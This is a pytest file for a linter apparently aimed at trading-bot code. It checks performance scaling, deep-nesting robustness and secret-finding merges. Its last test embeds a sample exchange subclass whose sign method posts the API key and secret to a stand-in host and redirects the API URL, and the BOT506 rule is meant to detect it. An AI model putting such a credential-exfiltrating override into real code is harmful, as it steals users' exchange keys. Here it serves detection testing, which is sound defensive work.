"""Costs grow linearly with the file (issue 8, item 10).

Each shape is linted at n and at 8n; the time may grow at most ``BOUND`` times (8 is linear;
the slack absorbs a shared machine).  The quadratic versions grew 40-64x.  No absolute time is
asserted.
"""
from __future__ import annotations

import time
from typing import Callable

import pytest

from botlint import fakes
from botlint.engine import lint_source

from helpers import settings

BOUND = 20
FLOOR = 0.05  # seconds: a large run under this is linear enough


def _timed(text: str, filename: str) -> float:
    s = settings()
    best = float("inf")
    for _ in range(2):
        t0 = time.process_time()
        lint_source(text, filename, s)
        best = min(best, time.process_time() - t0)
    return best


def assert_scales(make: Callable[[int], str], filename: str, n: int) -> None:
    lint_source(make(8), filename, settings())  # imports and tables, outside the timing
    for _attempt in range(2):
        t_small, t_big = _timed(make(n), filename), _timed(make(8 * n), filename)
        if t_big < FLOOR or t_big <= BOUND * t_small:
            return
    raise AssertionError(f"{filename}: {t_small:.3f}s at n={n}, {t_big:.3f}s at 8n "
                         f"({t_big / t_small:.0f}x for 8x the input)")


def implicit_concatenation(n: int) -> str:
    # the stdlib's pydoc_data/topics.py shape: one string in many adjacent literals
    return "TOPICS = (\n" + "".join(f"    'line {i} of a long help text\\n'\n" for i in range(n)) + ")\n"


def many_env_keys(n: int) -> str:
    return "".join(f"KEY_{i}_API_SECRET={fakes.fake('alnum64', seed=i)}\n" for i in range(n))


def nested_json_arrays(n: int) -> str:
    return '{"exchange": ' + "[" * n + '"x", ' * n + '"y"' + "]" * n + "}\n"


def boolean_chain(n: int) -> str:
    return "ok = a" + " or a" * n + "\n"


@pytest.mark.parametrize("make,filename,n", [
    (implicit_concatenation, "topics.py", 150),
    (many_env_keys, ".env", 800),
    (nested_json_arrays, "config.json", 4000),
    (boolean_chain, "bot.py", 1500),
], ids=["implicit-concatenation", "env-keys", "nested-json-arrays", "boolean-chain"])
def test_cost_is_linear(make, filename, n):
    assert_scales(make, filename, n)


def test_every_key_of_a_large_env_file_is_reported_once():
    found = lint_source(many_env_keys(3000), ".env", settings(["BOT1"]))
    assert len(found) == 3000 and len({f.line for f in found}) == 3000


def test_long_concatenations_are_evaluated_without_recursion():
    import libcst as cst

    from botlint.analysis.literals import literal_str

    node = cst.parse_expression("(" + " ".join(f"'{i}'" for i in range(3000)) + ")")
    assert literal_str(node) == "".join(str(i) for i in range(3000))


def test_deep_json_config_is_scanned_without_recursion_error():
    key = fakes.fake("alnum64", seed=3)
    text = '{"binance": {"secret": "' + key + '"}, "deep": ' + "[" * 100_000 + "]" * 100_000 + "}\n"
    found = lint_source(text, "config.json", settings(["BOT1"]))
    assert [f.code for f in found] == ["BOT101"]
    text = "{" * 100_000 + '"secret": "' + key + '"' + "}" * 100_000
    found = lint_source(text, "config.json", settings(["BOT1"]))
    assert [f.code for f in found] == ["BOT101"]
    assert len(found[0].message) < 200  # the key path is capped, not 100,000 parents long


def test_merge_keeps_what_the_pairwise_definition_keeps():
    """engine._merge (bisected) against the pairwise definition, on random overlapping spans."""
    import random

    from botlint.engine import _merge
    from botlint.rule import RawFinding

    def pairwise(raws):
        secrets = sorted((r for r in raws if r.code.startswith("BOT1") and r.span),
                         key=lambda r: (-r.specificity, -(r.confidence or 0), r.span))
        kept = []
        for r in secrets:
            a0, a1 = (r.span[0], r.span[1]), (r.span[2], r.span[3])
            if not any((a0 < (k.span[2], k.span[3]) and (k.span[0], k.span[1]) < a1) or a0 == (k.span[0], k.span[1])
                       or (r.secret_hash and r.secret_hash == k.secret_hash and r.span[0] == k.span[0]) for k in kept):
                kept.append(r)
        return kept

    rng = random.Random(10)
    for _ in range(300):
        raws = []
        for _ in range(rng.randint(1, 12)):
            line, col = rng.randint(1, 3), rng.randint(1, 8)
            end_line = line + rng.choice((0, 0, 0, 1))
            end_col = rng.randint(1, 9) if end_line > line else col + rng.randint(0, 4)
            raws.append(RawFinding(code=rng.choice(("BOT101", "BOT104", "BOT108")), node=None, message="m",
                                   span=(line, col, end_line, end_col), secret_hash=rng.choice(("", "h1", "h2")),
                                   specificity=rng.randint(0, 3)))
        assert [id(r) for r in _merge(raws)] == [id(r) for r in pairwise(raws)]


def test_client_source_of_a_long_boolean_chain_needs_no_recursion():
    # `ex = a or a or ... or ccxt.binance()`: a recursive look-up hit the recursion limit on a
    # 20,000-term chain, which made the walk fail and turned every rule off (BOT004)
    import libcst as cst

    from botlint.analysis.clients import ClientTracker
    from botlint.analysis.imports import ImportMap

    from botlint.engine import _in_big_stack  # libcst's parser needs a deep native stack here

    def check():
        tracker = ClientTracker(ImportMap(), False)
        first = tracker.source_of(cst.parse_expression("a" + " or a" * 20_000 + " or make()"))
        last = tracker.source_of(cst.parse_expression("1" + " or 2" * 20_000 + " or make()"))
        return first, last

    assert _in_big_stack(check) == (("key", "a"), ("call", "make"))


def test_bot506_reads_method_bodies_without_libcst_rebuilding_them(monkeypatch):
    """BOT506 looks inside overridden methods (``sign``, ``describe``, ...) of exchange
    subclasses; ccxt's own exchange modules have hundreds of them, some thousands of lines.
    libcst's ``visit`` rebuilds every node it passes (half of binance.py's walk); the rule reads
    the bodies with botlint's read-only walker instead, and still finds the exfiltration."""
    import libcst as cst

    def rebuilding_visit(self, visitor):  # pragma: no cover - fails the test when called
        raise AssertionError(f"libcst visit of a {type(self).__name__} from a rule")

    source = ('import ccxt, requests\nclass binance(ccxt.binance):\n    def sign(self, path, *args, **kw):\n'
              '        requests.post("https://c.example.net", json={"k": self.apiKey, "s": self.secret})\n'
              '        return super().sign(path, *args, **kw)\n\n'
              '    def describe(self):\n        return {"urls": {"api": {"rest": "https://c.example.net/api"}}}\n\n'
              '    def request(self, path, api="public", method="GET", params={}, headers=None, body=None):\n'
              '        return super().request(path, api, method, params, headers, body)\n'
              'ccxt.binance.fetch = lambda *a: None\n')
    monkeypatch.setattr(cst.CSTNode, "visit", rebuilding_visit)
    from botlint import walker

    found = [f.code for f in lint_source(source, "bot/tamper.py", settings(["BOT506"]))]
    assert found and set(found) == {"BOT506"}
    cached = len(walker._METHODS)
    lint_source(source, "bot/tamper.py", settings(["BOT506"]))
    assert len(walker._METHODS) == cached  # the rule's per-call visitor classes are not kept
